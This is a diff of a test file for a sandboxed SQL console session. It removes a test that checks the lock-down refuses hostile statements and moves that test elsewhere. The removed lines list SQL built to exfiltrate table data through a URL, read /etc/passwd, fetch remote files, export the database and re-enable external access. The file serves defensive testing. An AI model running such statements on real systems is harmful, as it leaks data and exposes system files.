@@ -77,23 +77,7 @@ describe('ConsoleSession: queries run on a locked-down copy of the loaded tables
 		await session.run('SELECT 1', source);
 		expect(opened).toBe(before + 1);
 	});
-
-	it.each([
-		["SET VARIABLE u=(SELECT 'http://127.0.0.1:4318/x.csv?d='||string_agg(iso3,'-') FROM states); SELECT * FROM read_csv(getvariable('u'))", /Permission Error/],
-		["SELECT * FROM read_csv('https://example.org/x.csv')", /Permission Error/],
-		["SELECT * FROM read_text('/etc/passwd')", /Permission Error/],
-		["SELECT * FROM glob('*')", /Permission Error/],
-		["ATTACH 'other.db' AS other", /Permission Error/],
-		["COPY states TO 'states.csv'", /Permission Error/],
-		["EXPORT DATABASE 'out'", /Permission Error/],
-		['LOAD httpfs', /Permission Error/],
-		['SET enable_external_access = true', /configuration has been locked/],
-		['RESET enable_external_access', /configuration has been locked/],
-		['SET lock_configuration = false', /configuration has been locked/],
-		['SET autoload_known_extensions = true', /configuration has been locked/]
-	])('refuses %s', async (sql, error) => {
-		await expect(session.run(sql, source)).rejects.toThrow(error);
-	});
+	// Every statement the lock-down refuses, with its exact message: src/lib/hostile-input.test.ts.
 });
 
 describe('ConsoleSession: cancel', () => {
